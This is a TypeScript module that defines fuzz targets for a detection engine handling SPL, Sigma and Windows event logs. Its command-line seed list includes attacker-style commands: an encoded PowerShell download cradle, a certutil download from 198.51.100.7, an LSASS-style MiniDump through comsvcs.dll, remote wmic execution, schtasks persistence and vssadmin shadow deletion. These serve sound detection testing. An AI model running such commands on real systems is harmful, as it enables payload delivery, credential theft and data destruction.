/**
 * What the fuzzer exercises: each target takes one mutated input and runs it through one engine.
 * Throwing (other than the documented input errors) or running longer than the budget is a finding.
 *
 * Owns: the targets — `spl` (analyzeSpl → compileRule → JSON round trip), `predicate` (an analysed
 * mutated search evaluated on events built from its own leaves, with mutated values), `tester`
 * (pasted event text and command lines through parseEvents / buildProcessEvents → matchEvent),
 * `sigma` (a Sigma file through readSigmaText, each rule's predicate evaluated on events),
 * `readers` (pasted Windows event XML, evtx JSON and flat JSON through parseEvents alone, where
 * a refusal without a position is a finding, and command lines through the encoded-PowerShell
 * decoder) —
 * and how their seeds are drawn from a catalog. A new rule format adds one target function here.
 * Invariants: pure (no I/O); a target never swallows an unexpected exception.
 * Never imports: React, Next, Node built-ins.
 */
import type { Catalog } from "../catalog/types.ts"
import { walkLeaves } from "../predicate/build.ts"
import { compile, evaluate } from "../predicate/compile.ts"
import type { Event, EventValue, Predicate } from "../predicate/types.ts"
import { readSigmaText } from "../formats/sigma/index.ts"
import {
  analyzeSpl,
  compileRule,
  evaluateRule,
  macroMap,
  matchRule,
  type MacroLookup,
} from "../formats/splunk/spl/index.ts"
import { buildProcessEvents, EventParseError, parseEvents } from "../tester/event.ts"
import { deriveFromProcess } from "../tester/powershell.ts"
import { compileCatalog, matchEvent, type CompiledCatalog } from "../tester/match.ts"
import { int, mutate, pick, type Rng } from "./mutate.ts"

export interface FuzzTarget {
  name: string
  /** Inputs in the target's real format, mutated into the fuzz inputs. */
  seeds: string[]
  /** Runs one input; an exception is a finding. */
  run: (input: string, r: Rng) => void
}

/** Catalog → SPL searches, macros and a compiled tester catalog, shared by the targets. */
export interface FuzzContext {
  searches: string[]
  macros: MacroLookup
  compiled: CompiledCatalog
  /** Pasted-event seeds: Windows XML from data source example logs, and JSON events. */
  events: string[]
  commandLines: string[]
  /** Sigma rule files as written. */
  sigma: string[]
}

const COMMAND_LINES = [
  'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"',
  "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
  "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
  'schtasks /create /s srv-02 /tn upd /tr "powershell -f C:\\ProgramData\\u.ps1" /sc onlogon',
  "vssadmin.exe delete shadows /all /quiet",
  '"C:\\Program Files\\App\\app.exe" --flag "quoted arg" \'single\'',
]

export function fuzzContext(catalog: Pick<Catalog, "detections" | "macros" | "dataSources">): FuzzContext {
  const searches = catalog.detections.filter((d) => d.format === "splunk").map((d) => d.search)
  const sigma = catalog.detections.filter((d) => d.format === "sigma").map((d) => d.raw)
  const events: string[] = catalog.dataSources.flatMap((s) =>
    typeof s.exampleLog === "string" && s.exampleLog.startsWith("<") ? [s.exampleLog] : [],
  )
  for (const d of catalog.detections.slice(0, 20)) events.push(JSON.stringify(eventFor(d, () => 0.5)))
  events.push(
    '{"Event": {"System": {"EventID": 1, "Computer": "ws-1"}, "EventData": {"CommandLine": "cmd.exe /c dir", "Image": "C:\\\\Windows\\\\System32\\\\cmd.exe"}}}',
  )
  return {
    searches,
    macros: macroMap(catalog.macros),
    compiled: compileCatalog(catalog.detections),
    events,
    commandLines: COMMAND_LINES,
    sigma,
  }
}

const VALUES = [
  "",
  "*",
  "cmd.exe",
  "C:\\Windows\\System32\\cmd.exe",
  "10.0.0.5",
  "::1",
  "é".repeat(3),
  "a".repeat(3000),
  "\u0000",
  "😀",
  "-1",
  "1e309",
  "NaN",
]

/** An event over the fields a rule reads, with values near its own (mutated) or hostile. */
export function eventFor(d: { analysis?: { predicate: Predicate } }, r: Rng, seeds: readonly string[] = VALUES): Event {
  const event: Event = {}
  const p = d.analysis?.predicate
  if (!p) return event
  walkLeaves(p, (leaf) => {
    const field = "field" in leaf ? leaf.field : "_raw"
    const own =
      "value" in leaf
        ? leaf.value
        : "values" in leaf
          ? (leaf.values[0] ?? "")
          : "pattern" in leaf
            ? leaf.pattern
            : "cidr" in leaf
              ? leaf.cidr
              : ""
    const v = (): EventValue => {
      const roll = r()
      if (roll < 0.4) return own.replace(/\*/g, "x")
      if (roll < 0.7) return mutate(r, own, seeds)
      if (roll < 0.8) return int(r, 100_000) - 50_000
      if (roll < 0.9) return [pick(r, seeds), own]
      return pick(r, seeds)
    }
    event[field] = v()
    if (leaf.dm) event[`${leaf.dm}.${field}`] = v()
  })
  return event
}

export function splTarget(ctx: FuzzContext): FuzzTarget {
  return {
    name: "spl",
    seeds: ctx.searches,
    run: (input) => {
      const a = analyzeSpl(input, ctx.macros)
      compileRule(JSON.parse(JSON.stringify(a)))
    },
  }
}

export function predicateTarget(ctx: FuzzContext): FuzzTarget {
  return {
    name: "predicate",
    seeds: ctx.searches,
    run: (input, r) => {
      const analysis = analyzeSpl(input, ctx.macros)
      const rule = compileRule(analysis)
      for (let i = 0; i < 3; i++) {
        const event = eventFor({ analysis }, r)
        evaluateRule(rule, event, { metadata: pick(r, ["unknown", "assume", "strict"] as const) })
        matchRule(rule, event)
      }
    },
  }
}

export function testerTarget(ctx: FuzzContext): FuzzTarget {
  return {
    name: "tester",
    seeds: [...ctx.events, ...ctx.commandLines],
    run: (input, r) => {
      let events: Event[] | undefined
      try {
        if (r() < 0.3) {
          matchEvent(ctx.compiled, {
            built: buildProcessEvents({ cmd: input, parent: r() < 0.5 ? input.slice(0, 40) : undefined }),
          })
          return
        }
        events = parseEvents(input)
      } catch (e) {
        // A documented refusal of unreadable text, not a finding.
        if (e instanceof EventParseError) return
        throw e
      }
      for (const event of events.slice(0, 5)) matchEvent(ctx.compiled, { event })
    },
  }
}

/** Hand-made reader seeds: character references, namespaces, CDATA, evtx JSON shapes. */
const READER_SEEDS = [
  '<Events><Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws-1</Computer></System><EventData><Data Name="CommandLine">cmd.exe /c &quot;a &amp; b&quot; &#x41;&#66;</Data><Data Name="Image"><![CDATA[C:\\Windows\\System32\\cmd.exe]]></Data></EventData></Event></Events>',
  '{"Event":{"#attributes":{"xmlns":"x"},"System":{"EventID":{"#text":4688},"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"Channel":"Security"},"EventData":{"Data":[{"#attributes":{"Name":"NewProcessName"},"#text":"C:\\x.exe"},{"@Name":"CommandLine","#text":"x -enc AAAA"}]}}}',
  '[{"EventCode":"1","Image":"C:\\a.exe","CommandLine":"a"},{"nested":{"deep":{"k":[1,"2",null,true]}}}]',
]

/** The pasted-event readers alone: any refusal must say where the text is wrong. */
export function readersTarget(ctx: FuzzContext): FuzzTarget {
  return {
    name: "readers",
    seeds: [...ctx.events, ...READER_SEEDS, ...ctx.commandLines],
    run: (input, r) => {
      if (r() < 0.2) {
        deriveFromProcess({ cmd: input.trim() === "" ? "x" : input })
        return
      }
      try {
        parseEvents(input)
      } catch (e) {
        if (!(e instanceof EventParseError)) throw e
        if (e.position === undefined || e.line === undefined)
          throw new Error(`a parse error without a position: ${e.message}`)
      }
    },
  }
}

/** A mutated Sigma file: read, validate and compile every document, evaluate each rule on events. */
export function sigmaTarget(ctx: FuzzContext): FuzzTarget {
  return {
    name: "sigma",
    seeds: ctx.sigma,
    run: (input, r) => {
      for (const { rule } of readSigmaText("fuzz.yml", input).rules) {
        const compiled = compile(JSON.parse(JSON.stringify(rule.analysis.predicate)) as Predicate)
        for (let i = 0; i < 3; i++)
          evaluate(compiled, eventFor(rule, r), { metadata: pick(r, ["unknown", "assume", "strict"] as const) })
      }
    },
  }
}

/** Every target available in this build of the engine (a format without seeds is left out). */
export function allTargets(ctx: FuzzContext): FuzzTarget[] {
  return [splTarget(ctx), predicateTarget(ctx), testerTarget(ctx), readersTarget(ctx), sigmaTarget(ctx)].filter(
    (t) => t.seeds.length > 0,
  )
}
